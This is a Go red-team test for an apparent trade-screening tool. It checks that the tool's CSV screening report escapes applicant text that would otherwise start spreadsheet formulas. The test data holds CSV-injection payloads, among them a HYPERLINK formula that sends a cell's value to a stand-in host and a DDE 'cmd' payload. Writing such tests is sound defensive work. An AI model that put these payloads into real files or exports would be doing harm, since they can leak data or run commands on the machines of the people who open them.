package main

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/tradeplan/tradeplan"
)

// TestAttackScreenCSVFormula (redteam, wave 6): the screening report as CSV
// carries the applicant's text (descriptions, partners, units); opened in
// a spreadsheet, none of its cells starts a formula, as in every other CSV
// the project writes (tradeplan.CSVRow).
func TestAttackScreenCSVFormula(t *testing.T) {
	dir := t.TempDir()
	env := map[string]string{"TRADEPLAN_DB": filepath.Join(dir, "none.db")}
	lines := filepath.Join(dir, "lines.csv")
	os.WriteFile(lines, []byte("direction,description,hs,origin,destination,quantity,unit,partner,partner_country\n"+
		"import,\"=HYPERLINK(\"\"http://x.example/\"\"&A1,\"\"click\"\")\",100630,CN,KP,5,t,@SUM(1+1),CN\n"+
		"import,+cmd|' /C calc'!A0,100630,CN,KP,5,t,-2+3,CN\n"), 0o600)
	code, out, errs := runWith(t, env, "", "screen", "--format", "csv", lines)
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil || len(rows) != 3 {
		t.Fatalf("screen: %d %q %q %v", code, out, errs, err)
	}
	for _, r := range rows[1:] {
		for _, c := range r {
			if !strings.HasPrefix(c, "'") && tradeplan.CSVFormula(c) {
				t.Errorf("cell %q starts a formula", c)
			}
		}
	}
	if !strings.Contains(out, "'=HYPERLINK") || !strings.Contains(out, "'@SUM") {
		t.Errorf("the applicant's text is not kept as text:\n%s", out)
	}
}
